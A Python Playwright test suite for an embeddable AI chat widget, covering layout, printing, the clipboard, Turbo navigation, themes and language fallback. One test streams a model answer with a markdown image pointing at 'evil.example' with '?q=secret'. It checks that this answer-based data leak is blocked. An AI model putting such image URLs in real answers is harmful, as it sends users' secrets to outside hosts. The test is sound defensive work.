"""The widget's surroundings: paper, the clipboard, Turbo, a skill's images, unsupported languages."""

import re

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Visitor, settled
from tests.browser.support.hosts import document
from tests.browser.support.states import ANSWER
from tests.browser.support.stub import Stub
from tests.browser.test_build import needs_node
from tests.browser.widget.test_examples import Made, bundle, page_of
from tests.browser.widget.test_widget import answer, ask, open_chat
from tests.support.harness import until

WHOLE = """<script nonce="n">
const real = fetch;
window.fetch = async (...given) => {
    const response = await real(...given);
    return { ok: response.ok, status: response.status, headers: response.headers, text: () => response.text() };
};
</script>"""
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)


def test_a_narrow_screen_is_filled(open_page: Visitor, host: str, stub: Stub) -> None:
    page = open_page(host, viewport={"width": 320, "height": 568})
    open_chat(page)
    assert page.get_by_role("dialog").bounding_box() == {"x": 0, "y": 0, "width": 320, "height": 568}
    stub.pieces = ("```\n" + "x" * 200 + "\n```\n" + "y" * 300,)
    ask(page, "z" * 300)
    expect(page.locator(".answer pre")).to_have_count(1)
    for height in (568, 200):  # a window of 1280 x 800 at 400 % zoom is 320 x 200
        page.set_viewport_size({"width": 320, "height": height})
        assert page.get_by_role("log").evaluate("e => e.scrollWidth <= e.clientWidth && e.clientHeight > 80")
        assert page.evaluate("document.documentElement.scrollWidth") == 320
        expect(page.get_by_text("AI assistant", exact=True)).to_be_in_viewport(ratio=1)
        expect(page.get_by_role("button", name="Send")).to_be_in_viewport(ratio=1)


def test_paper_shows_the_whole_inline_chat_in_black_on_white(
    open_page: Visitor, host: str, stub: Stub, server: str, made: Made
) -> None:
    chat = '<main><h1>Host</h1><skill-chat skill="help" open theme="dark"></skill-chat></main>'
    html = document(f'<script async src="{server}/widget.js" data-skill="help" data-theme="dark"></script>', chat)
    page = open_page(host + page_of(made, html, f"script-src {server}; connect-src {server}"))
    stub.pieces = (ANSWER * 3,)
    inline = page.locator("main skill-chat")
    inline.get_by_role("textbox", name="Your message").fill("When?")
    page.keyboard.press("Enter")
    inline.get_by_role("button", name="Good answer").click()
    log = inline.get_by_role("log")
    assert log.evaluate("e => e.scrollHeight > e.clientHeight")
    page.emulate_media(media="print")
    assert log.evaluate("e => e.scrollHeight <= e.clientHeight")
    assert inline.evaluate("e => e.offsetHeight") > 1500
    for selector in (".foot", ".comment", ".fresh", ".actions button", "html > skill-chat .launcher"):
        expect(page.locator(selector).first).to_be_hidden()
    colours = "e => { const s = getComputedStyle(e); return [s.backgroundColor, s.color] }"
    assert inline.locator(".panel").evaluate(colours) == ["rgb(255, 255, 255)", "rgb(24, 32, 28)"]
    assert page.pdf().count(b"/Type /Page\n") > 1


def clipboard(page: Page) -> str:
    """The text that a paste would insert."""
    field = page.get_by_role("textbox", name="Your message")
    field.fill("")
    field.press("Control+v")
    return field.input_value()


@pytest.mark.parametrize("allowed", [True, False])
def test_copying_with_and_without_the_clipboard(open_page: Visitor, host: str, stub: Stub, allowed: bool) -> None:
    page = open_page(host)
    if allowed:
        page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=host)
    else:
        page.evaluate("Object.defineProperty(navigator, 'clipboard', { value: undefined })")
    open_chat(page)
    stub.pieces = ("Say **this**:\n\n```\nlet x = 1;\n  x++;\n```",)
    ask(page, "How?")
    expect(page.get_by_role("status")).to_contain_text("Answer complete.")
    page.get_by_role("button", name="Copy", exact=True).click()
    expect(page.get_by_role("status")).to_have_text("Copied")
    assert clipboard(page) == "Say **this**:\n\n```\nlet x = 1;\n  x++;\n```"
    page.get_by_role("button", name="Copy code").click()
    until(lambda: clipboard(page) == "let x = 1;\n  x++;")


def test_only_images_of_the_skills_origins_are_fetched(
    open_page: Visitor, host: str, stub: Stub, server: str, made: Made
) -> None:
    html = document(f'<script async src="{server}/widget.js" data-skill="help"></script>')
    policy = f"default-src 'none'; img-src data: https:; script-src {server}; connect-src {server}"
    page = open_page(host + page_of(made, html, policy))
    page.route("https://pictures.example/**", lambda route: route.fulfill(body=PIXEL, content_type="image/png"))
    stub.skill["image_origins"] = ["https://pictures.example"]
    text = "![Plan *A*](https://pictures.example/a.png) ![B](https://evil.example/b.png?q=secret) end"
    stub.pieces, stub.delay = [text[at : at + 4] for at in range(0, len(text), 4)], 0.02
    open_chat(page)
    ask(page, "Show me")
    expect(page.locator(".actions")).to_be_visible()
    picture = page.locator(".answer img")
    expect(picture).to_have_attribute("alt", "Plan A")
    assert picture.evaluate("e => e.decode().then(() => [e.naturalWidth, e.src])") == [
        1,
        "https://pictures.example/a.png",
    ]
    link = page.locator(".answer a")
    assert (link.inner_text(), link.get_attribute("href")) == ("B", "https://evil.example/b.png?q=secret")
    outside = [url for url in open_page.asked if not url.startswith((host, server))]
    assert outside == ["https://pictures.example/a.png"], "not even the beginning of an address"


@pytest.mark.parametrize("language", ["tlh", "constructor"])
def test_an_unsupported_language_falls_back(
    open_page: Visitor, host: str, server: str, stub: Stub, made: Made, language: str
) -> None:
    line = f'<script async src="{server}/widget.js" data-skill="help" data-lang="{language}"></script>'
    page = open_page(host + page_of(made, document(line), f"script-src {server}; connect-src {server}"))
    open_chat(page)
    expect(page.locator(".answer")).to_have_count(1)
    assert "undefined" not in page.locator("skill-chat .panel").inner_html()
    assert page.locator(".panel").get_attribute("lang") == "en"


def test_options_in_the_address_and_a_fetch_that_streams_nothing(
    open_page: Visitor, host: str, stub: Stub, server: str, made: Made
) -> None:
    options = "skill=help&amp;title=By%20address&amp;dir=rtl&amp;persist=none&amp;z-index=7&amp;mode=inline"
    line = f'<script async nonce="n" src="{server}/widget.js?{options}"></script>'
    policy = f"script-src 'nonce-n' {server}; connect-src {server}"
    body = f"<main><h1>Host</h1><section>{line}</section></main>"
    page = open_page(host + page_of(made, document(WHOLE, body), policy))
    expect(page.get_by_role("region", name="By address")).to_have_attribute("dir", "rtl")
    ask(page, "Hello")
    expect(page.locator(".answer .text").last).to_have_text("Hello world.")
    assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
    page.evaluate("SkillChat('destroy'); SkillChat('init', { skill: 'help', 'z-index': 7, 'accent': '#123456' })")
    expect(page.locator("skill-chat")).to_have_count(1)
    open_chat(page)
    page.evaluate("document.body.innerHTML = ''")
    ask(page, "Still there?")
    expect(page.locator(".actions")).to_be_visible()
    style = "e => [getComputedStyle(e).zIndex, e.popover ?? null]"
    assert page.locator("html > skill-chat").evaluate(style) == ["7", None]
    motion = "e => [getComputedStyle(e).animationName, e.getAnimations().length]"
    assert page.locator(".panel").evaluate(motion) == ["none", 0]
    page.emulate_media(reduced_motion="no-preference")
    assert page.locator(".panel").evaluate(motion)[0] == "arrive"


@pytest.fixture(scope="module")
def turbo(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """Hotwire's Turbo, from npm."""
    folder = tmp_path_factory.mktemp("turbo")
    (folder / "main.js").write_text('import "@hotwired/turbo";')
    return bundle(folder, "main.js")


@needs_node
def test_turbo_goes_from_page_to_page(
    open_page: Visitor, host: str, stub: Stub, server: str, made: Made, turbo: bytes
) -> None:
    line = f'<script async src="{server}/widget.js" data-skill="help"></script>'
    policy = f"script-src 'self' {server}; connect-src 'self' {server}; style-src 'unsafe-inline'"
    for name, other in (("one", "two"), ("two", "one")):
        body = f'<main><h1>{name}</h1><a href="/made/{other}">Go on</a><skill-chat skill="{name}"></skill-chat></main>'
        html = document('<script type="module" src="app.js"></script>', body + line)
        page_of(made, html, policy, turbo)
        made[name] = made["page"]
    page = open_page(f"{host}/made/one")
    page.evaluate("window.same = true; window.visits = 0; addEventListener('turbo:load', () => visits++)")
    floating = page.locator("html > skill-chat")
    floating.locator(".launcher").click()
    for number, name in enumerate(["two", "one", "two"]):
        floating.get_by_role("textbox").fill(f"On {number}")
        page.keyboard.press("Enter")
        expect(floating.locator(".actions")).to_have_count(number + 1)
        if number < 2:
            page.get_by_role("link", name="Go on").click()
        else:
            page.go_back()
        expect(page.locator("h1")).to_have_text(name)
        expect(floating.locator(".question")).to_have_count(number + 1)
        expect(page.locator("skill-chat")).to_have_count(2)
    inline = page.locator("main skill-chat")
    inline.get_by_role("textbox").fill("In the page")
    page.keyboard.press("Enter")
    expect(inline.locator(".actions")).to_have_count(1)
    assert page.evaluate("[same, visits]") == [True, 3], "Turbo swapped the body and loaded no page"
    assert [asked["text"] for asked in stub.asked] == ["On 0", "On 1", "On 2", "In the page"]


def test_themes_and_places_by_either_spelling(open_page: Visitor, host: str, stub: Stub) -> None:
    page = open_page(f"{host}/elements")
    page.evaluate("""() => {
        const chat = document.createElement("skill-chat");
        const options = { skill: "three", theme: "dark", mode: "floating", position: "left" };
        for (const [name, value] of Object.entries(options)) chat.setAttribute(name, value);
        document.body.append(chat);
    }""")
    third = page.locator("skill-chat").nth(2)
    launcher = third.get_by_role("button", name="Open chat")
    box = launcher.bounding_box()
    assert box is not None
    assert box["x"] == 20
    launcher.click()
    panel = third.locator(".panel")
    paper = "e => getComputedStyle(e).backgroundColor"
    expect(panel).to_be_visible()
    assert panel.evaluate(paper) == "rgb(22, 26, 24)"
    third.evaluate("e => e.call('setTheme', 'light')")
    settled(page)
    assert panel.evaluate(paper) == "rgb(255, 255, 255)"


def test_the_host_page_shows_its_line_and_the_totals(open_page: Visitor, host: str, stub: Stub) -> None:
    page = open_page(host)
    line = page.locator("#embed").inner_text()
    assert re.fullmatch(r'<script async src="http://127\.0\.0\.1:\d+/widget\.js" data-skill="help"></script>', line)
    assert line in page.request.get(host).text()
    expect(page.locator("[data-total=input]")).to_have_text("1,234")
    expect(page.locator("[data-total=requests]")).to_have_text("3")
    page.get_by_role("button", name="What does it cost?").click()
    expect(answer(page)).to_have_text("Hello world.")
    assert stub.asked[0]["text"] == "What does it cost?"


def test_a_server_on_a_machine_without_a_network_is_reached(open_page: Visitor, host: str, stub: Stub) -> None:
    page = open_page("about:blank")
    page.add_init_script("Object.defineProperty(navigator, 'onLine', { get: () => false })")  # as with loopback alone
    page.goto(host)
    open_chat(page)
    ask(page, "Hello?")
    expect(answer(page)).to_have_text("Hello world.")
